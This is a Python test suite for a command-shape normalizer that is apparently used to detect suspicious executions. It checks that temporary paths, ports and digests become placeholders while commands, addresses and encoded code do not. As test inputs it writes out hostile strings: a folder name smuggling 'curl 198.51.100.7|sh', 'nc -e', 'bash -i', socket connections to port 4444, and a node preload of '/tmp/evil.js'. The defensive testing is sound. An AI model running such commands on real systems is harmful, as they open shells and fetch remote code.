"""What a hole of a shape may hold, and that no address, command or code is ever in one."""

from __future__ import annotations

import base64
import re
import string

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from flycatcher.core.detection import detect
from flycatcher.core.execution import Execution
from flycatcher.core.payload.rules import named
from flycatcher.core.shape import QUIET, pieces, shown

QUICK = settings(max_examples=300, deadline=None)
FOLDER = (("folder", "/home/me/src"),)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("open('/tmp/tmpab12cd34/x.py')", "open('<temporary>/x.py')"),
        ("cd /tmp/pip-req-build-abcdefgh/x", "cd <temporary>/x"),
        ("as -o /tmp/ccQ3nJk2.o", "as -o <temporary>"),
        ("sh /tmp/build.sh", "sh /tmp/build.sh"),
        ("rm /tmp/../etc/passwd", "rm /tmp/../etc/passwd"),
        ("get http://127.0.0.1:4873/left-pad", "get http://127.0.0.1:<port>/left-pad"),
        ("get http://127.0.0.1:80@198.51.100.7/x", "get http://127.0.0.1:80@198.51.100.7/x"),
        ("get http://198.51.100.7:8080/12345", "get http://198.51.100.7:8080/12345"),
        ("get example.org/tmp/tmpab12cd34", "get example.org/tmp/tmpab12cd34"),
        ("n = 12345", "n = <number>"),
        ("chmod 755 x", "chmod 755 x"),
        ("f(192.168.100.200)", "f(192.168.100.200)"),
        ("b([104,101,108,108])", "b([104,101,108,108])"),
        (r"'\143\165\162\154'", r"'\143\165\162\154'"),
        ("d = '2026-11-30T02:24:56.094Z'", "d = '<time>'"),
        ("s = '9f86d081884c7d659a2feaa0c55ad015'", "s = '<digest>'"),
        ("s = '6375726c20687474703a2f2f6576696c'", "s = '6375726c20687474703a2f2f6576696c'"),
        ("bytes.fromhex('9f86d081884c7d659a2feaa0c55ad015')", "bytes.fromhex('9f86d081884c7d659a2feaa0c55ad015')"),
        ("ls /home/me/src/a /home/me/srcs", "ls <folder>/a /home/me/srcs"),
    ],
)
def test_holes_are_named_and_everything_else_is_fixed(text: str, expected: str) -> None:
    assert shown(text, FOLDER) == expected


def test_numbers_are_fixed_in_programs_that_could_make_code_of_them() -> None:
    assert shown("n = 12345; open('/tmp/tmpab12cd34')", strict=True) == "n = 12345; open('<temporary>')"
    assert [name for name in sorted(QUIET) if named(name) is None] == []


def shape(text: str, *, cwd: str = "/src", program: str = "python3", **fields: str) -> str:
    found = detect(Execution(argv=(program, "-c", text), cwd=cwd, **fields), shells=True)  # type: ignore[arg-type]
    assert found is not None
    return found.shape


COMMANDS = st.sampled_from(
    [
        "curl",
        "wget",
        "sh",
        "bash -i",
        "nc -e",
        "rm -rf",
        "eval",
        "exec",
        "reboot",
        "$(id)",
        "`id`",
        "&& id",
        "| sh",
        "; id",
    ]
)
HOSTS = st.sampled_from(["example.org", "198.51.100.7", "3325256711", "0xC6336407", "x.example", "user@host"])
URLS = st.builds(
    "{}://{}/{}".format,
    st.sampled_from(["http", "https", "ftp", "HTTPS", "gopher"]),
    HOSTS,
    st.text("ax19/", max_size=8),
)
CODE = st.one_of(
    COMMANDS,
    URLS,
    st.binary(min_size=6, max_size=16)
    .map(lambda data: base64.b64encode(data).decode())
    .filter(lambda text: "/" in text or "+" in text or "=" in text),
    st.text(string.ascii_letters, min_size=4, max_size=20).map(lambda text: text.encode().hex()).filter(str.isalnum),
    st.text(string.ascii_letters + " ;/", min_size=4, max_size=12).map(
        lambda text: "".join(f"\\x{ord(char):02x}" for char in text)
    ),
    st.text(string.ascii_letters, min_size=4, max_size=12).map(
        lambda text: "".join(f"\\{ord(char):03o}" for char in text)
    ),
    st.text(string.ascii_letters, min_size=4, max_size=12).map(lambda text: ",".join(str(ord(char)) for char in text)),
    st.text(string.ascii_letters, min_size=4, max_size=12).map(lambda text: " ".join(str(ord(char)) for char in text)),
)
"""Commands, addresses, and texts that programs decode: base64, hex, escapes, lists of the letters' numbers."""
LEARNT = st.sampled_from(
    [
        "print({})", "print('{}')", "open('/tmp/{}').read()", "open('/tmp/tmpab12cd34/{}').read()", "f('127.0.0.1:{}')",
        "s = '/src/{}'", "n = {}", "d = 'x-{}'",
    ]
)  # fmt: skip
PASSING = st.sampled_from(
    ["12345", "9876543210", "tmpzz9yy8xx", "4873", "9f86d081884c7d659a2feaa0c55ad015", "2026-11-30"]
)


@QUICK
@given(LEARNT, PASSING, CODE)
def test_no_command_address_or_code_fits_where_a_passing_thing_was(template: str, passing: str, code: str) -> None:
    assume("/tmp/" not in template or not re.fullmatch(r"[\w.+=-]+", code))  # a file's name there, and nothing else
    assert pieces(template.format(passing)) != pieces(template.format(code))


@QUICK
@given(
    LEARNT.filter(lambda template: "/tmp/" not in template),
    PASSING,
    CODE,
    st.sampled_from(["{}{}", "{1}{0}", "{} {}", "{};{}"]),
)
def test_nothing_can_be_put_beside_a_passing_thing(template: str, passing: str, code: str, how: str) -> None:
    joined = how.format(passing, code)
    assume(not re.fullmatch(r"[0-9a-f]+", joined))  # another number, or another digest
    assert pieces(template.format(passing)) != pieces(template.format(joined))


@QUICK
@given(st.text("abc019./:-tmp ", max_size=80))
def test_what_is_fixed_stands_in_the_text_in_this_order(text: str) -> None:
    at = 0
    for _, fixed in pieces(text):
        assert fixed in text[at:]
        at = text.index(fixed, at) + len(fixed)


def test_a_folder_whose_name_holds_a_command_is_no_hole() -> None:
    evil = "/tmp/a;curl 198.51.100.7|sh"
    assert shape(f"cd {evil} && make", cwd=evil, program="sh") != shape("cd /src && make", cwd="/src", program="sh")


def test_a_system_folder_is_no_hole() -> None:
    assert shape("open('/usr/x')", cwd="/usr") != shape("open('/src/x')", cwd="/src")


@pytest.mark.parametrize(
    ("known", "other"),
    [
        ("exec(bytes([100, 120, 130]))", "exec(bytes([101, 120, 130]))"),
        ("exec(chr(112) + x[1234])", "exec(chr(112) + x[1235])"),
        (
            "import socket; socket.create_connection(('198.51.100.7', 4444))",
            "import socket; socket.create_connection(('198.51.100.7', 4445))",
        ),
        ("import os; os.system('nc 3325256711 443')", "import os; os.system('nc 3325256712 443')"),
    ],
)
def test_a_program_that_evaluates_or_connects_keeps_its_numbers(known: str, other: str) -> None:
    assert shape(known) != shape(other)


def test_options_and_what_is_loaded_are_part_of_the_shape() -> None:
    plain = detect(Execution(argv=("node", "-e", "f()")))
    loaded = detect(Execution(argv=("node", "-r", "/tmp/evil.js", "-e", "f()")))
    assert plain is not None
    assert loaded is not None
    assert plain.shape != loaded.shape


def test_text_behind_the_limit_is_part_of_the_shape() -> None:
    pad = "#" * (1 << 18)
    assert pieces(pad + "1") != pieces(pad + "2")
